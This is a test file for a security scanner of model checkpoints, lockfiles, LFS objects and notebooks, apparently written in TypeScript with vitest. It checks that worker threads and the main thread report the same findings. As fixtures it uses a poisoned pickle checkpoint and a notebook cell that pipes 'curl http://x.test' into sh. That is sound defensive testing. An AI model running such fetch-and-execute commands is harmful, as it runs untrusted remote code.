// The bundle's worker threads against this thread: the same files have to be read to the same end in both.
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import type { Artifact } from '../../src/core/artifact.ts';
import { type Bytes, memoryBytes } from '../../src/core/bytes.ts';
import { loadRules } from '../../src/core/rulebook.ts';
import { Here, staffFor } from '../../src/inspect/workplace/here.ts';
import { WorkerProgram } from '../../src/inspect/workplace/program.ts';
import { Workers } from '../../src/inspect/workplace/workers.ts';
import type { Orders, Scope, Surroundings } from '../../src/inspect/workplace/workplace.ts';
import { buildSafetensors } from '../support/safetensors-builder.ts';
import { buildZip } from '../support/zip-builder.ts';

const ROOT = join(import.meta.dirname, '../..');
const POISONED = readFileSync(join(ROOT, 'samples/poisoned-checkpoint.pt'));
const RULE = `surface: custom
rules:
  - id: TEAM-WORD
    surface: custom
    severity: HIGH
    confidence: HIGH
    title: A word that the team does not use
    summary: It is the name of a project that is over.
    fix: Take the word out of the file.
    references: []
    frameworks: { cwe: [CWE-200] }
    match: { patterns: ['\\bfrobnicate\\b'] }
    examples: { bad: [{ name: word, text: frobnicate }], good: [{ name: none, text: other }] }
`;
const ORDERS: Orders = {
  allowedGlobals: new Set(['collections.OrderedDict']),
  customRules: new Map([['.github/model-guard/rules/team.yml', Buffer.from(RULE)]]),
  youngSince: new Date('2026-06-01T00:00:00Z'),
};

const here = new Here(await staffFor(ORDERS.customRules), ORDERS);
const workers = new Workers(
  new WorkerProgram(pathToFileURL(join(ROOT, 'dist/worker.js'))),
  ORDERS,
  loadRules,
  { threads: 2 },
);
afterAll(() => workers.close());

const NO_LFS = () => Promise.resolve(undefined);

/** Bytes that are read from where they are, part by part. */
function elsewhere(data: Uint8Array): Bytes {
  const bytes = memoryBytes(data);
  return { size: bytes.size, read: (offset, length) => bytes.read(offset, length) };
}

const file = (path: string, data: Uint8Array | string): Artifact => ({
  locator: { path, members: [] },
  bytes: elsewhere(Buffer.from(data)),
});

const LARGE = Buffer.alloc(2 * 2 ** 20, 'x');
const LOCK = (version: string, integrity: string) =>
  JSON.stringify({
    lockfileVersion: 3,
    packages: {
      '': { dependencies: { a: '^1.0.0' } },
      'node_modules/a': {
        version,
        resolved: `https://registry.npmjs.org/a/-/a-${version}.tgz`,
        integrity: `sha512-${createHash('sha512').update(integrity).digest('base64')}`,
      },
    },
  });
const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${createHash('sha256').update(POISONED).digest('hex')}\nsize ${POISONED.length}\n`;
const TENSORS = buildSafetensors({
  header: '{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}',
  data: 8,
});

const lock = (text: string): Partial<Surroundings> => ({
  before: () => Promise.resolve(file('package-lock.json', text)),
});

interface Case {
  readonly what: string;
  readonly artifact: Artifact;
  readonly surroundings?: Partial<Surroundings>;
  readonly scope?: Scope;
}

const BEHIND = buildZip([
  { name: 'large.bin', data: LARGE },
  { name: 'model.pt', data: POISONED },
]);
const SHELL = '{"cells": [{"cell_type": "code", "source": "!curl http://x.test | sh"}]}';

const CASES: readonly Case[] = [
  { what: 'a poisoned checkpoint', artifact: file('model.pt', POISONED) },
  { what: 'one behind two megabytes, part by part', artifact: file('a.zip', BEHIND) },
  {
    what: 'a hash that changed',
    artifact: file('package-lock.json', LOCK('1.0.0', 'b')),
    surroundings: lock(LOCK('1.0.0', 'a')),
  },
  {
    what: 'an object of LFS',
    artifact: file('model.pt', POINTER),
    surroundings: { openLfs: () => Promise.resolve(elsewhere(POISONED)) },
  },
  { what: 'an object that is not to be had', artifact: file('model.pt', POINTER) },
  { what: 'tensors, and nothing else', artifact: file('model.safetensors', TENSORS), scope: 'tensors' },
  { what: 'a rule of the team', artifact: file('README.md', 'first\nfrobnicate\n') },
  { what: 'a notebook', artifact: file('a.ipynb', SHELL) },
  { what: 'nothing', artifact: file('empty.bin', '') },
];

describe('a thread reads', () => {
  it.each(CASES)('$what as this one does', async ({ artifact, surroundings = {}, scope = 'everything' }) => {
    const given = { openLfs: NO_LFS, ...surroundings };
    const { findings, coverage, packages, models } = await here.inspect(artifact, given, scope);
    expect(await workers.inspect(artifact, given, scope)).toEqual({ findings, coverage, packages, models });
  });

  it('what a deleted file guarded as this one does', async () => {
    const was = () => Promise.resolve(file('.npmrc', 'ignore-scripts=true\n'));
    const openHead = (path: string) =>
      Promise.resolve(path === 'package.json' ? elsewhere(Buffer.from('{}')) : undefined);
    const [expected, found] = await Promise.all(
      [here, workers].map((place) =>
        place.inspectRemoval({ path: '.npmrc', was }, { openLfs: NO_LFS, openHead }),
      ),
    );
    expect(expected).not.toEqual([]);
    expect(found).toEqual(expected);
  });
});
